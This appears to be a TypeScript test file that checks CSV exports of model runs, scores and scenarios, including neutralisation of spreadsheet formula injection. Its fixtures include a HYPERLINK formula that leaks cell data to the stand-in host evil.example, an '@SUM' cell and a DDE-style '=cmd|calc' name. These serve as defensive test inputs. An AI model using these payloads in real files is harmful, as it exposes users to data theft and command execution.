import { csvNumber } from '../io/csvNumber';
import { describe, expect, it } from 'vitest';
import { fromCsv, undoFormulaNeutralising, type CsvCell } from '../io/csvWrite';
import type { ScoreRow } from '../quality/scoreTable';
import { makeScenario } from '../roi/scenarioFixtures';
import { testExperiment, testParagraphs, testRuns, T, S } from '../report/testing/reportInput';
import { exportFileName, slug } from './fileNames';
import { RUN_COLUMNS, runsCsv, runsCsvRows, type RunsCsvInput } from './runsCsv';
import { SCENARIO_COLUMNS, scenarioCsvRows, scenariosCsv } from './scenariosCsv';

const BOM = '\uFEFF';

function input(): RunsCsvInput {
  const experiment = testExperiment();
  const paragraphs = testParagraphs(3);
  const runs = testRuns(paragraphs, [T, S]);
  const [first, second] = runs;
  // Outputs a spreadsheet would run, and text that must survive quoting.
  first!.outputText = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
  second!.outputText = 'Déjà vu, "quoted", a;b\r\nnext line\t+tab';
  runs[2]!.status = 'error';
  runs[2]!.outputText = null;
  runs[2]!.costUsd = null;
  runs[2]!.errorMessage = '@SUM(1+1)';
  first!.serviceTier = 'flex';
  const scores: ScoreRow[] = [
    {
      paragraphId: 'p0',
      modelId: T,
      runId: first!.id,
      source: 'rouge',
      metric: 'rougeL@reference',
      value: 0.123456789,
      createdBy: null,
      promptId: null,
    },
    {
      paragraphId: 'p0',
      modelId: T,
      runId: first!.id,
      source: 'human',
      metric: 'human.rating',
      value: 4,
      createdBy: 'ana',
      promptId: null,
    },
    {
      paragraphId: 'p0',
      modelId: T,
      runId: first!.id,
      source: 'human',
      metric: 'human.rating',
      value: 5,
      createdBy: 'bo',
      promptId: null,
    },
    // An older judge prompt's score is not the one shown.
    {
      paragraphId: 'p0',
      modelId: T,
      runId: first!.id,
      source: 'judge',
      metric: 'judge.coverage',
      value: 1,
      createdBy: null,
      promptId: 'old',
    },
  ];
  return { experiment, paragraphs, runs, scores, judgePromptId: 'current' };
}

const asText = (cell: CsvCell): string =>
  cell === null ? '' : typeof cell === 'number' ? csvNumber(cell) : String(cell);

describe('runs and scores as CSV', () => {
  it('is UTF-8 with a BOM, one row per call, with the pivot columns first', () => {
    const csv = runsCsv(input());
    expect(csv.startsWith(BOM)).toBe(true);
    const parsed = fromCsv(csv);
    expect(parsed.ok && parsed.headers).toEqual([...RUN_COLUMNS]);
    expect(parsed.ok && parsed.rows.length).toBe(6);
  });

  it('neutralises a cell that a spreadsheet would run as a formula', () => {
    const csv = runsCsv(input());
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"');
    expect(csv).toContain('"\'@SUM(1+1)"');
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('keeps every value through a round trip', () => {
    const i = input();
    const rows = runsCsvRows(i);
    const parsed = fromCsv(runsCsv(i));
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.rows.map((r) => r.map(undoFormulaNeutralising))).toEqual(
      rows.map((r) => r.map(asText)),
    );
    const col = (name: string) => RUN_COLUMNS.indexOf(name as (typeof RUN_COLUMNS)[number]);
    const first = parsed.rows[0]!;
    expect(Number(first[col('rougeL@reference')])).toBe(0.123456789);
    expect(Number(first[col('human.rating')])).toBe(4.5);
    expect(first[col('judge.coverage')]).toBe('');
    // The tier the call was billed at; a call without a reported tier leaves the cell empty.
    expect(first[col('service_tier')]).toBe('flex');
    expect(parsed.rows[1]![col('service_tier')]).toBe('');
    expect(undoFormulaNeutralising(parsed.rows[1]![col('output_text')]!)).toBe(
      'Déjà vu, "quoted", a;b\r\nnext line\t+tab',
    );
  });
});

describe('scenario outputs as CSV', () => {
  it('has a row for the investment and one per month, with the headline figures on each', () => {
    const s = makeScenario();
    const rows = scenarioCsvRows([{ id: 'a', name: '=cmd|calc', origin: 'saved', scenario: s }]);
    expect(rows).toHaveLength(1 + s.finance.horizonMonths);
    expect(rows[0]![SCENARIO_COLUMNS.indexOf('month')]).toBe(0);
    const csv = scenariosCsv([{ id: 'a', name: '=cmd|calc', origin: 'saved', scenario: s }]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toContain(`"'=cmd|calc"`);
    const parsed = fromCsv(csv);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.rows.map((r) => r.map(undoFormulaNeutralising))).toEqual(
      rows.map((r) => r.map(asText)),
    );
  });
});

describe('export file names', () => {
  it('are safe on every file system', () => {
    expect(slug('Quarterly: 70B → 8B / "final"')).toBe('quarterly-70b-8b-final');
    expect(slug('Résumé')).toBe('resume');
    expect(slug('***')).toBe('experiment');
    expect(exportFileName('Q3 study', 'bundle', '2026-11-24T10:00:00Z')).toBe(
      'q3-study-bundle-2026-11-24.distill.json',
    );
  });
});
